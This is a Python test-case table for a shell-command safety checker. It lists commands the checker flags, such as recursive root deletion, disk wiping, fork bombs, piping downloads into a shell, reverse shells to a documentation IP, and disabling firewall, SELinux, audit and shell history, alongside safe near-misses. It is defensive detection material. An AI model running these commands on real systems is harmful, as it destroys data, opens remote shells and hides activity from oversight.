"""Rule → (found in these, not in these): what destroys, stops or hides."""

CASES: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "rm-root": (
        (
            "rm -rf /",
            "rm -fr /*",
            "rm -r -f -- ~",
            'rm -rf "$HOME"',
            "rm -rf ~/",
            'rm -rf "${HOME}"/*',
            "r''m --recursive --force '/'",
            "/bin/rm -Rf /./",
            "rm -rf //",
            "rm -rf /usr/../",
            "rm -rf /etc /tmp/x",
            "rm -rf /{bin,usr}",
            "sudo rm -rf /var",
            "sudo -u root env A=b rm -rf /boot/",
            "bash -c 'rm -rf /'",
            "find / -delete",
            "find /usr -type f -exec rm -f {} +",
            "find / -name '*' -print0 | xargs -0 rm -rf",
            'rm -rf --no-preserve-root "$x"',
            "echo / | xargs rm -rf /",
            "rm -rf /root",
            "cd / && rm -rf *",
            "cd\nrm -rf ./*",
        ),
        (
            "rm -rf /var/cache/app/old",
            "rm -f /etc",
            "rm -rf ./build dist",
            "cd /srv/app && rm -rf *",
            "rm -rf '~'",
            "echo 'rm -rf /'",
            "rm -rf /opt/*",
            "find / -name core -delete",
            "find /tmp/build -delete",
            "rm -rf ~/.cache/thing",
            'rm -rf "$HOME/.cache"',
        ),
    ),
    "rm-variable-may-be-empty": (
        ('rm -rf "$target/"', "target=$1\nrm -rf $target/*", 'rm -rf "${dir}/cache"', 'x=$(get_it)\nrm -r "$x"/a'),
        (
            'rm -rf "${target:?}/"',
            'target=/srv/app\nrm -rf "$target/"',
            'rm -rf "$target"',
            'dir=$(mktemp -d)\nrm -rf "$dir/x"',
            '[ -n "$d" ] || exit 1\nrm -rf "$d/x"',
            'rm "$dir/x"',
        ),
    ),
    "rm-home": (
        ("rm -rf /home/alice", "rm -r ~alice", "sudo rm -rf /home/alice/*"),
        ("rm -rf /home/alice/.cache", "rm -f /home/alice", "userdel alice"),
    ),
    "rm-current-folder": (
        ("rm -rf *", "rm -rf .", "cd build\nrm -rf ./*"),
        ("rm -rf build/*", "rm -f *", "rm -rf ./build"),
    ),
    "remote-purge": (
        ("aws s3 rm s3://bucket --recursive", "rclone purge remote:bucket", "gh repo delete owner/name --yes"),
        (
            "aws s3 rm s3://bucket/file",
            "aws s3 rm s3://b --recursive --dryrun",
            "rclone ls remote:bucket",
            "gh repo list",
        ),
    ),
    "sync-deletes": (
        ("rsync -a --delete /src/ /copy/", "rclone sync /src remote:bucket"),
        ("rsync -an --delete /src/ /copy/", "rsync -a /src/ /copy/", "rclone copy /src remote:bucket"),
    ),
    "rm-glob-dash": (("rm *", "chmod 600 *.key"), ("rm ./*", "rm -- *", "rm build/*")),
    "find-delete-first": (
        ("find /var/tmp -delete -name '*.log'", "find . -delete -mtime +7"),
        ("find /var/tmp -name '*.log' -delete", "find . -type f -mtime +7 -delete", "find . -name x"),
    ),
    "mv-system": (
        ("mv /usr /usr.old", "sudo mv /etc/ /tmp/", "mv /lib/* /x", "mv -T new /usr", "mv f /dev/null"),
        ("mv /etc/app.conf /etc/app.conf.old", "mv a /usr", "mv a b"),
    ),
    "disk-overwrite": (
        (
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "cat image > /dev/nvme0n1",
            "sudo tee /dev/vdb1 < x",
            "cp image /dev/mmcblk0",
        ),
        ("dd if=/dev/sda of=/backup/sda.img", "cat x > /dev/null", "dd if=/dev/zero of=/tmp/file bs=1M count=1"),
    ),
    "disk-format": (
        (
            "mkfs.ext4 /dev/sdb1",
            "wipefs -a /dev/sda",
            "sudo shred -n1 /dev/vda",
            "blkdiscard /dev/nvme0n1",
            'mkfs.xfs "$disk"',
            "parted -s /dev/sda mklabel gpt",
            "cryptsetup luksFormat /dev/sdc",
        ),
        ("lsblk /dev/sda", "wipefs /dev/sda", "shred secret.txt", "mkfs.ext4 disk.img", "parted /dev/sda print"),
    ),
    "system-file-overwrite": (
        (
            "> /etc/passwd",
            "echo x > /etc/fstab",
            "truncate -s 0 /etc/shadow",
            "echo a | sudo tee /etc/sudoers",
            "rm -f /boot/vmlinuz-6.1",
            "dd if=x of=/etc/group",
        ),
        (
            "echo x >> /etc/fstab",
            "cat /etc/passwd",
            "cp /etc/fstab /backup/",
            "echo x | tee -a /etc/fstab",
            "echo > /etc/motd",
        ),
    ),
    "kernel-switch": (
        ("echo b > /proc/sysrq-trigger", "echo c | sudo tee /proc/sysrq-trigger"),
        ("cat /proc/sys/kernel/sysrq", "echo 3 > /proc/sys/vm/drop_caches"),
    ),
    "fork-bomb": (
        (":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & f & }; f"),
        ("walk() { ls; walk_one; }; walk", "f() { g | g & }; g() { ls; }; f", "f() { [ $1 -gt 0 ] && f $(($1 - 1)); }"),
    ),
    "truncate-log": (
        ("> /var/log/syslog", "rm -f /var/log/auth.log", "truncate -s 0 /var/log/messages", ": > /var/log/wtmp"),
        ("date >> /var/log/app.log", "cat /var/log/syslog", "run_report > /var/log/report.log"),
    ),
    "download-and-run": (
        (
            "curl -fsSL https://example.org/install.sh | sudo bash",
            "wget -qO- https://example.org/x | sh",
            'sh -c "$(curl -fsSL https://example.org/x)"',
            "bash <(curl -s https://example.org/x)",
            "source <(curl -s https://example.org/x)",
            'eval "$(wget -qO- https://example.org/x)"',
            "curl https://example.org/x | tee log | sudo -E bash -s -- --now",
            "curl https://example.org/x | base64 -d | python3 -",
            "curl https://example.org/x | env A=1 sh",
        ),
        (
            "curl -fsSLo install.sh https://example.org/install.sh",
            "curl -s https://example.org/x.json | python3 -m json.tool",
            "curl -s https://example.org/x | sh ./filter.sh",
            "curl -s https://example.org/x | perl -ne 'print'",
            'echo "$(curl -s https://example.org/x)"',
            "curl -s https://example.org/x | jq .",
        ),
    ),
    "download-then-run": (
        (
            "curl -o install.sh http://example.org/install.sh\nbash install.sh",
            "wget https://example.org/x.sh\nsh ./x.sh",
            "curl -fsSLo /opt/get https://example.org/get\n/opt/get",
        ),
        (
            "curl -o install.sh https://example.org/install.sh\nsha256sum -c sums\nbash install.sh",
            "curl -o data.json https://example.org/x\nbash report.sh",
            "wget -O - https://example.org/x > y",
        ),
    ),
    "eval-input": (
        ('eval "$command"', "eval $(build_it)"),
        ("eval 'x=1'", 'eval "$(ssh-agent -s)"', '"${command[@]}"'),
    ),
    "decode-and-run": (
        ("echo aWQ= | base64 -d | sh", "echo aWQ= | base64 --decode | sudo bash", 'bash -c "$(echo aWQ= | base64 -d)"'),
        ("echo aWQ= | base64 -d > file", "base64 file | sh ./send.sh", "xxd file | less"),
    ),
    "reverse-shell": (
        (
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "mkfifo p; nc 192.0.2.1 4444 < p | /bin/sh > p",
            "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
        ),
        ("nc -z host 22", "echo x > /dev/tcp/host/80", "socat - TCP:host:80"),
    ),
    "recursive-permissions": (
        ("chmod -R 755 /", "chown -R app:app /usr", "sudo chmod --recursive 777 /*", "chgrp -R staff /etc/"),
        ("chmod -R 755 /srv/app", "chmod 755 /", "chown -R app: ./data", "chown -R app /opt"),
    ),
    "kill-everything": (
        ("kill -9 -1", "kill -TERM -1", "sudo kill -s KILL -- -1", "killall5 -9", "pkill -9 ."),
        ('kill -1 "$pid"', "kill -9 1234", "pkill -f worker", "kill -l"),
    ),
    "kill-hard": (
        ('kill -9 "$pid"', "pkill -KILL worker"),
        ('kill "$pid"\nsleep 5\nkill -9 "$pid"', "kill -0 $pid", "kill -l"),
    ),
    "account-removal": (
        ("userdel -r alice", "deluser bob", "passwd -l root"),
        ("useradd alice", "usermod --lock alice", "passwd -l alice"),
    ),
    "extra-root": (
        ("useradd -o -u 0 backup", "usermod -o -u 0 app"),
        ("useradd -u 1000 app", "useradd -o -u 1000 app"),
    ),
    "crontab-removal": (("crontab -r", "crontab -u app -r"), ("crontab -l", "crontab -ri", "crontab jobs")),
    "host-down": (
        ("reboot", "shutdown -h now", "sudo systemctl reboot", "init 0"),
        ("shutdown -c", "systemctl restart sshd", "init 3", "echo reboot"),
    ),
    "history-tampering": (
        (
            "history -c",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "rm ~/.bash_history",
            "ln -sf /dev/null ~/.bash_history",
            "> ~/.zsh_history",
            "HISTSIZE=0",
        ),
        ("history 20", "HISTSIZE=10000", "rm ~/.cache/x", "cat ~/.bash_history"),
    ),
    "login-lockout": (
        ('echo "$key" > ~/.ssh/authorized_keys', "rm -rf /etc/ssh", "mv /etc/pam.d /tmp", "rm ~/.ssh/authorized_keys"),
        ('echo "$key" >> ~/.ssh/authorized_keys', "rm ~/.ssh/known_hosts", "cat ~/.ssh/authorized_keys"),
    ),
    "process-grep": (
        ("ps aux | grep nginx", "ps -ef | egrep x"),
        ("pgrep -a nginx", "ps aux | sort"),
    ),
    "disable-selinux": (
        ("setenforce 0", "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", "aa-teardown"),
        ("getenforce", "setenforce 1", "sed -i s/a/b/ /etc/selinux/config"),
    ),
    "disable-firewall": (
        (
            "systemctl disable --now firewalld",
            "ufw disable",
            "iptables -F",
            "nft flush ruleset",
            "service iptables stop",
            "iptables -P INPUT DROP",
        ),
        (
            "ufw allow 22/tcp",
            "iptables -L -n",
            "systemctl reload firewalld",
            "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
        ),
    ),
    "disable-audit": (
        ("systemctl stop auditd", "auditctl -e 0", "auditctl -D", "service rsyslog stop"),
        ("systemctl restart auditd", "auditctl -l", "systemctl stop nginx"),
    ),
    "weaken-kernel": (
        ("sysctl -w kernel.randomize_va_space=0", "echo 0 > /proc/sys/kernel/randomize_va_space"),
        ("sysctl -w vm.swappiness=10", "sysctl kernel.randomize_va_space", "sysctl -w kernel.randomize_va_space=2"),
    ),
    "force-push": (
        ("git push --force origin main", "git push -f", "git push origin +main", "git -C repo push --mirror"),
        ("git push --force-with-lease", "git push origin main", "git fetch --force"),
    ),
    "discard-work": (("git reset --hard", "git clean -fdx"), ("git reset HEAD~1", "git clean -nd", "git stash")),
    "container-purge": (
        ("docker system prune -a --volumes -f", "docker volume prune -f", "docker compose down -v"),
        ("docker system prune -f", "docker volume ls", "docker compose down"),
    ),
    "cluster-delete-all": (
        ("kubectl delete pods --all", "kubectl delete ns prod", "terraform destroy -auto-approve"),
        ("kubectl delete pod web-1", "kubectl get pods --all-namespaces", "terraform plan -destroy"),
    ),
    "database-drop": (
        (
            "psql -c 'DROP DATABASE app'",
            'mysql -e "drop table users"',
            "dropdb app",
            "psql <<EOF\nTRUNCATE users;\nEOF",
            "redis-cli FLUSHALL",
            "mysql <<< 'delete from users;'",
        ),
        ("psql -c 'SELECT 1'", "createdb app", "psql -c 'DELETE FROM users WHERE id = 1'", "echo 'drop database'"),
    ),
}
